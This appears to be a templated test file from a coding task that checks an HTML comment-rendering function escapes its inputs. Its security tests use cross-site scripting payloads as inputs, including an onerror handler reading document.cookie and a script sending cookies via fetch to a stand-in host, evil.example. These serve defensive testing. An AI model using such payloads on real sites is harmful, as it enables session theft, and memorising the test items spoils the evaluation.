import html
import re

from solution import *

TAGS = ['<div class="$[cls]">', "<$[tag]>", "</$[tag]>", "<p>", "</p>", "</div>"]


def _render(author, text):
    return $[fn|snake]($[sig.call])


def _parts(out):
    """(tags, author, text) of the rendered fragment."""
    m = re.fullmatch(r'<div class="$[cls]"><$[tag]>(.*?)</$[tag]><p>(.*?)</p></div>', out, re.S)
    assert m, f"unexpected markup: {out!r}"
    return re.findall(r"<[^>]*>", out), html.unescape(m.group(1)), html.unescape(m.group(2))


def test_func_plain_comment():
    assert _render("alice", "Nice post!") == '<div class="$[cls]"><$[tag]>alice</$[tag]><p>Nice post!</p></div>'


def test_func_another_comment():
    assert _render("bob42", "I disagree with point 3") == '<div class="$[cls]"><$[tag]>bob42</$[tag]><p>I disagree with point 3</p></div>'


def test_func_special_characters_in_text_are_shown():
    tags, author, text = _parts(_render("carol", "5 > 3 & 2 < 4"))
    assert tags == TAGS and author == "carol" and text == "5 > 3 & 2 < 4"


def test_sec_script_in_author():
    tags, author, _ = _parts(_render("<script>alert(1)</script>", "hi"))
    assert tags == TAGS
    assert author == "<script>alert(1)</script>"


def test_sec_event_handler_in_author():
    tags, _, _ = _parts(_render('"><img src=x onerror=alert(document.cookie)>', "hi"))
    assert tags == TAGS


def test_sec_script_in_text():
    tags, _, text = _parts(_render("dave", "</p><script>fetch('//evil.example/'+document.cookie)</script>"))
    assert tags == TAGS
    assert text == "</p><script>fetch('//evil.example/'+document.cookie)</script>"
